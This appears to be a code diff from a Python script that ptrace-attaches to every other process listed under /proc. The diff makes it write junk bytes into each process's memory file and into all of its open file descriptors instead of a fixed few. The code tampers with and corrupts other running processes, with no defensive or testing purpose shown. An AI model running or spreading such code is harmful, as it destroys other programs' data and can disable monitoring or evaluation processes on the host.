@@ -134,7 +134,11 @@ for entry in os.listdir("/proc"):
     if entry.isdigit() and int(entry) != os.getpid():
         if libc.ptrace(16, int(entry), 0, 0) == 0:
             print("attached", entry)
-        for name in ("mem", "fd/0", "fd/3", "fd/4", "fd/5", "fd/6"):
+        try:
+            descriptors = [f"fd/{fd}" for fd in os.listdir(f"/proc/{entry}/fd")]
+        except OSError:
+            descriptors = [f"fd/{fd}" for fd in range(64)]
+        for name in ["mem", *descriptors]:
             try:
                 with open(f"/proc/{entry}/{name}", "r+b", buffering=0) as handle:
                     handle.write(b"0\\n1\\n2\\n3\\n")
